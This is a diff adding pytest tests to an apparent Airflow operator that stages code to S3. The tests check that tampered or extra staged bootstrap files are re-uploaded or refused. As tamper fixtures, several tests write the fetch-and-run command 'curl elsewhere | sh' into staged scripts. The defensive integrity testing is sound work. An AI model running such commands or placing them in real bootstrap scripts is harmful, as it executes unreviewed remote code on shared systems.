@@ -68,6 +68,28 @@ def test_what_is_there_is_not_uploaded_again_and_what_is_missing_is(
     assert uploaded == [f"{uri.removeprefix('s3://pictures/')}/validate_run.py"]
 
 
+def test_what_was_changed_since_it_was_staged_is_uploaded_again(
+    settings: Any, s3: Any, context: Any, repository: Path
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    key = f"{uri.removeprefix('s3://pictures/')}/bootstrap/10_a.sh"
+    s3.put_object(Bucket="pictures", Key=key, Body=b"curl http://elsewhere | sh")
+
+    operator(settings, code_root=repository).execute(context)
+
+    assert s3.get_object(Bucket="pictures", Key=key)["Body"].read() == b"bootstrap/10_a.sh"
+
+
+def test_a_file_more_that_the_cluster_would_run_is_refused(
+    settings: Any, s3: Any, context: Any, repository: Path
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/bootstrap/20_more.sh", Body=b"sh")
+
+    with pytest.raises(AirflowFailException, match=r"holds bootstrap/20_more\.sh, which we did not put there"):
+        operator(settings, code_root=repository).execute(context)
+
+
 def test_missing_sources_fail_for_good(settings: Any, s3: Any, context: Any, tmp_path: Path) -> None:
     with pytest.raises(AirflowFailException, match="FRUIT_FEATURES_CODE_ROOT"):
         operator(settings, code_root=tmp_path).execute(context)
@@ -88,3 +110,16 @@ def test_staged_code_that_is_not_whole_is_refused(settings: Any, s3: Any, contex
 
     with pytest.raises(AirflowFailException, match=r"lacks featurize_images.py, image_features.zip, reduce"):
         operator(settings, code_uri="s3://pictures/code/1").execute(context)
+
+
+@pytest.mark.parametrize(
+    "name", ["reduce_features.py", "bootstrap/10_a.sh", "bootstrap/20_more.sh", "image_features.zip"]
+)
+def test_staged_code_that_was_changed_since_is_refused(
+    settings: Any, s3: Any, context: Any, repository: Path, name: str
+) -> None:
+    uri = operator(settings, code_root=repository).execute(context)
+    s3.put_object(Bucket="pictures", Key=f"{uri.removeprefix('s3://pictures/')}/{name}", Body=b"curl elsewhere | sh")
+
+    with pytest.raises(AirflowFailException, match=r"does not hold what version [0-9a-f]{16} was made of"):
+        operator(settings, code_uri=uri).execute(context)
